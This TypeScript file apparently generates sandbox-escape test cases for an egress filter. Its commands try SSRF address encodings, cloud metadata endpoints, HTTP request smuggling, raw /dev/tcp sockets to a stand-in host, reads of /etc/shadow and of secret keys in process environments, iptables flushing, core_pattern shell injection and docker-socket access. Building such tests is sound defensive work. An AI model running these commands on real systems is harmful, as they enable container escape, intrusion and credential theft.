/** Ways round the door, each a command for a sandbox. None may reach the forbidden server, or anything of the host. */

export interface Try {
  title: string;
  command: string;
}

/** Where the forbidden server listens on the host, and the names it has in the host's map. */
export interface Targets {
  port: number;
  tlsPort: number;
}

const curl = (title: string, args: string): Try => ({
  title: `curl ${title}`,
  command: `curl -sS -k -g -m 10 ${args}`,
});
/** Python where curl would tidy the request up. */
const python = (title: string, code: string): Try => ({
  title,
  command: `timeout 10 python3 - <<'PY'\n${code}\nPY`,
});

const raw = (title: string, host: string, request: string, tls = false): Try =>
  python(
    title,
    `import socket, ssl
s = socket.create_connection((${JSON.stringify(host)}, ${tls ? 443 : 80}), 5)
s.settimeout(5)
${tls ? `c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE\ns = c.wrap_socket(s, server_hostname=${JSON.stringify(host)})` : ""}
s.sendall(${JSON.stringify(request)}.encode("latin-1"))
try:
    while True:
        part = s.recv(65536)
        if not part: break
        print(part.decode("latin-1"), end="")
except OSError as error: print(error)`,
  );

const loopbackSpellings = [
  ...[
    "127.0.0.1",
    "127.1",
    "127.0.1",
    "0177.0.0.1",
    "0x7f.0.0.1",
    "0x7f000001",
    "2130706433",
    "017700000001",
    "127.0.0.2",
  ],
  ...[
    "127.255.255.254",
    "0.0.0.0",
    "0",
    "[::1]",
    "[::]",
    "[::ffff:127.0.0.1]",
    "[::ffff:7f00:1]",
    "[0:0:0:0:0:0:0:1]",
  ],
  ...[
    "[::127.0.0.1]",
    "localhost",
    "LOCALHOST",
    "localhost.",
    "x.localhost",
    "ip6-localhost",
    "[fe80::1%25lo]",
  ],
];
const otherAddresses = [
  ...[
    "169.254.169.254",
    "[fd00:ec2::254]",
    "metadata.google.internal",
    "100.100.100.200",
    "10.0.0.1",
    "172.16.0.1",
  ],
  ...[
    "192.168.0.1",
    "192.168.1.1",
    "172.31.255.255",
    "100.64.0.1",
    "198.18.0.1",
    "224.0.0.1",
    "255.255.255.255",
  ],
  ...[
    "[fc00::1]",
    "[fe80::1]",
    "[ff02::1]",
    "[64:ff9b::7f00:1]",
    "[2002:7f00:1::]",
    "0251.0376.0251.0376",
    "2852039166",
  ],
];
const forbiddenSpellings = [
  ...[
    "evil.test",
    "EVIL.TEST",
    "evil.test.",
    "EvIl.TeSt",
    "evil%2etest",
    "evil.test:80",
    "x@evil.test",
    "allowed.test@evil.test",
  ],
  ...[
    "allowed.test:80@evil.test",
    "evil.test#@allowed.test",
    "evil.test?@allowed.test",
    "evil.test\\\\@allowed.test",
  ],
  ...[
    "sub.evil.test",
    "203.0.113.66",
    "203.0.113.66.",
    "0xcb.0.113.66",
    "3405803842",
    "[::ffff:203.0.113.66]",
  ],
];

function addresses({ port }: Targets): Try[] {
  return [
    ...loopbackSpellings.flatMap((host) => [
      curl(`host loopback as ${host}`, `'http://${host}:${port}/'`),
      curl(`host loopback as ${host} on port 80`, `'http://${host}/'`),
    ]),
    ...otherAddresses.map((host) => curl(`address ${host}`, `'http://${host}/'`)),
    ...forbiddenSpellings.flatMap((host) => [
      curl(`forbidden host as ${host}`, `'http://${host}/'`),
      curl(`forbidden host as ${host} over https`, `'https://${host.replace(":80", ":443")}/'`),
    ]),
    ...[21, 22, 25, 53, 123, 3306, 5432, 6379, 8080, 8443, port].map((p) =>
      curl(`port ${p}`, `telnet://203.0.113.66:${p} </dev/null`),
    ),
  ];
}

function requestTricks({ port, tlsPort }: Targets): Try[] {
  const get = (...lines: string[]) => `${lines.join("\r\n")}\r\nConnection: close\r\n\r\n`;
  return [
    curl("Host of the forbidden server", "-H 'Host: evil.test' http://allowed.test/"),
    curl("Host of loopback", `-H 'Host: 127.0.0.1:${port}' http://allowed.test/`),
    curl("Host that differs from the SNI", "-H 'Host: evil.test' https://allowed.test/"),
    curl(
      "SNI that differs from the address",
      "--connect-to evil.test:443:allowed.test:443 https://evil.test/",
    ),
    curl("resolve to the host", `--resolve allowed.test:80:127.0.0.1 http://allowed.test/`),
    curl("connect-to loopback", `--connect-to allowed.test:80:127.0.0.1:${port} http://allowed.test/`),
    curl("a redirect to the forbidden server", "-L http://allowed.test/redirect-forbidden"),
    curl("a redirect to loopback", "-L http://allowed.test/redirect-loopback"),
    curl("a redirect to metadata", "-L http://allowed.test/redirect-metadata"),
    curl("a proxy that is the door's neighbour", `-x http://203.0.113.66:80 http://evil.test/`),
    curl("CONNECT through the allowed server", "-p -x http://allowed.test:80 http://evil.test/"),
    curl("x-forwarded-host", "-H 'X-Forwarded-Host: evil.test' http://allowed.test/"),
    curl(
      "the engine's own headers",
      "-H 'x-engine-url: http://evil.test/' -H 'x-engine-secret: a' http://allowed.test/",
    ),
    curl(
      "the door's own headers",
      "-H 'x-iterate-connection: {}' -H 'x-iterate-target: http://evil.test' http://allowed.test/",
    ),
    curl("Alt-Svc and HTTP/2", "--http2-prior-knowledge http://evil.test/"),
    curl("HTTP/2 by ALPN", "--http2 https://evil.test/"),
    raw("absolute form", "allowed.test", get("GET http://evil.test/ HTTP/1.1", "Host: allowed.test")),
    raw(
      "absolute form with loopback",
      "allowed.test",
      get(`GET http://127.0.0.1:${port}/ HTTP/1.1`, "Host: allowed.test"),
    ),
    raw(
      "absolute form over TLS",
      "allowed.test",
      get("GET https://evil.test/ HTTP/1.1", "Host: allowed.test"),
      true,
    ),
    raw("doubled Host", "allowed.test", get("GET / HTTP/1.1", "Host: allowed.test", "Host: evil.test")),
    raw(
      "Host with a space before the colon",
      "allowed.test",
      get("GET / HTTP/1.1", "Host : evil.test", "Host: allowed.test"),
    ),
    raw("folded Host", "allowed.test", get("GET / HTTP/1.1", "Host: allowed.test", " evil.test")),
    raw("no Host", "evil.test", get("GET / HTTP/1.1")),
    raw("HTTP/1.0 without Host", "evil.test", "GET / HTTP/1.0\r\n\r\n"),
    raw("HTTP/0.9", "evil.test", "GET /\r\n"),
    raw(
      "Content-Length with Transfer-Encoding",
      "allowed.test",
      "POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    ),
    raw(
      "two Content-Lengths",
      "allowed.test",
      "POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 0\r\nContent-Length: 40\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    ),
    raw(
      "a pipelined request to another host",
      "allowed.test",
      "GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n",
    ),
    raw(
      "obscured chunked",
      "allowed.test",
      "POST / HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    ),
    raw(
      "bare CR in a header",
      "allowed.test",
      get("GET / HTTP/1.1", "Host: allowed.test", "X: a\rHost: evil.test"),
    ),
    raw("NUL in Host", "allowed.test", get("GET / HTTP/1.1", "Host: allowed.test\u0000.evil.test")),
    raw(
      "authority with userinfo in Host",
      "allowed.test",
      get("GET / HTTP/1.1", "Host: allowed.test@evil.test"),
    ),
    raw(
      "Host with the forbidden server's port",
      "allowed.test",
      get("GET / HTTP/1.1", `Host: allowed.test:${port}`),
    ),
    raw("CONNECT", "allowed.test", `CONNECT 127.0.0.1:${port} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n\r\n`),
    raw(
      "upgrade to h2c",
      "allowed.test",
      get("GET / HTTP/1.1", "Host: evil.test", "Upgrade: h2c", "HTTP2-Settings: AAMAAABk"),
    ),
    raw("TLS to the plain port", "evil.test", "\u0016\u0003\u0001\u0000\u0005hello"),
    raw(
      "plain HTTP on the TLS port's name",
      "evil.test",
      `GET / HTTP/1.1\r\nHost: 127.0.0.1:${tlsPort}\r\n\r\n`,
    ),
    python(
      "CRLF in a path",
      `import http.client as h
c = h.HTTPConnection("allowed.test", timeout=5); c._validate_path = lambda p: None
c.request("GET", "/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\nGET /"); print(c.getresponse().read())`,
    ),
  ];
}

function systemTricks({ port }: Targets): Try[] {
  const connect = (family: string, address: string) =>
    `import socket; s=socket.socket(socket.${family}, socket.SOCK_STREAM); s.settimeout(5); s.connect((${address})); print(s.recv(100))`;
  return [
    python(
      "UDP to a public address",
      `import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(b"x", ("203.0.113.66", ${port})); print(s.recv(9))`,
    ),
    python(
      "UDP to host loopback",
      `import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(b"x", ("127.0.0.1", ${port})); print(s.recv(9))`,
    ),
    python(
      "a DNS query to a public resolver",
      `import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4evil\\4test\\0\\0\\1\\0\\1", ("203.0.113.53", 53)); print(s.recv(512))`,
    ),
    python(
      "a raw ICMP socket",
      `import socket; s=socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); s.settimeout(3); s.sendto(b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0", ("203.0.113.66", 0)); print(s.recv(99))`,
    ),
    python(
      "a raw TCP socket",
      `import socket; s=socket.socket(socket.AF_INET, socket.SOCK_RAW, 255); s.settimeout(3); s.sendto(b"E"+b"\\0"*39, ("203.0.113.66", 0)); print(s.recv(99))`,
    ),
    python(
      "a packet socket",
      `import socket; s=socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind(("lo", 0)); s.settimeout(3); s.send(b"\\0"*64); print("sent on its own lo")`,
    ),
    python(
      "SCTP",
      `import socket; s=socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132); s.settimeout(3); s.connect(("203.0.113.66", ${port})); print("connected")`,
    ),
    python(
      "a vsock to the host",
      `import socket; s=socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); s.settimeout(3); s.connect((2, ${port})); print("connected")`,
    ),
    python(
      "abstract Unix sockets of the host",
      `import socket
for line in open("/proc/net/unix").read().split("\\n")[1:]:
    name = line.split(" ")[-1]
    if name.startswith("@"):
        s = socket.socket(socket.AF_UNIX); s.connect("\\0" + name[1:]); print("connected to", name)
raise SystemExit("none can be seen")`,
    ),
    python("the host's loopback by IPv4", connect("AF_INET", `"127.0.0.1", ${port}`)),
    python("the host's loopback by IPv6", connect("AF_INET6", `"::1", ${port}`)),
    python("a mapped address", connect("AF_INET6", `"::ffff:127.0.0.1", ${port}`)),
    python(
      "a bound source address",
      `import socket; s=socket.socket(); s.bind(("127.0.0.1", 0)); s.settimeout(5); s.connect(("203.0.113.66", ${port})); print("connected")`,
    ),
    {
      title: "routes of its own",
      command: `ip route add default dev lo 2>&1; ip addr add 203.0.113.66/32 dev lo 2>&1; curl -sS -m 5 http://203.0.113.66:${port}/`,
    },
    {
      title: "flushed rules",
      command: `iptables -t nat -F 2>&1; iptables -F 2>&1; nft flush ruleset 2>&1; curl -sS -m 5 http://203.0.113.66:${port}/`,
    },
    {
      title: "a new network namespace",
      command: `unshare -n curl -sS -m 5 http://203.0.113.66:${port}/ 2>&1`,
    },
    {
      title: "a new user and network namespace",
      command: `unshare -rn curl -sS -m 5 http://127.0.0.1:${port}/ 2>&1`,
    },
    {
      title: "the network namespace of pid 1",
      command: `nsenter -t 1 -n curl -sS -m 5 http://127.0.0.1:${port}/ 2>&1`,
    },
    {
      title: "the root of pid 1",
      command: `ls /proc/1/root/work /proc/1/root/home/* /proc/1/root/root/.ssh 2>&1; cat /proc/1/root/etc/shadow 2>&1`,
    },
    { title: "a veth to the outside", command: "ip link add a type veth peer name b netns 1 2>&1" },
    { title: "a tun device", command: "ip tuntap add dev tun0 mode tun 2>&1; ls /dev/net 2>&1" },
    {
      title: "host devices",
      command:
        "ls /dev/vda /dev/sda /dev/mem /dev/kmsg 2>&1; mknod /tmp/vda b 254 0 2>&1; head -c 16 /tmp/vda 2>&1",
    },
    {
      title: "a mount of the host's root",
      command:
        "mkdir -p /tmp/m; mount /dev/vda /tmp/m 2>&1; mount -t proc proc /tmp/m 2>&1 && ls /tmp/m/1/root/home 2>&1",
    },
    {
      title: "other processes' sockets",
      command:
        "cat /proc/net/tcp | wc -l; ls /proc | grep -c '^[0-9]'; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -iE 'TOKEN_KEYS|SECRETS_KEY|ENGINE_SECRET'",
    },
    { title: "the engine's sockets", command: `find / -xdev -type s 2>/dev/null | head; ls -la /run 2>&1` },
    {
      title: "sysctls",
      command: "echo 1 > /proc/sys/net/ipv4/ip_forward; echo '|/bin/sh' > /proc/sys/kernel/core_pattern",
    },
    { title: "bash's own sockets", command: `exec 3<>/dev/tcp/203.0.113.66/${port} && cat <&3` },
    { title: "bash to host loopback", command: `exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3` },
    { title: "git over its own protocol", command: `timeout 10 git ls-remote git://203.0.113.66/x.git 2>&1` },
    {
      title: "ssh",
      command: `timeout 10 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -p ${port} 203.0.113.66 true 2>&1`,
    },
    curl("file of the host", "file:///proc/1/root/etc/shadow"),
    curl("gopher", `gopher://203.0.113.66:${port}/_GET`),
    curl("ftp", "ftp://203.0.113.66/"),
    curl("tftp", `tftp://203.0.113.66:${port}/x`),
    curl("a Unix socket", "--unix-socket /run/docker.sock http://localhost/"),
  ];
}

export const bypassTries = (targets: Targets): Try[] => [
  ...addresses(targets),
  ...requestTricks(targets),
  ...systemTricks(targets),
];
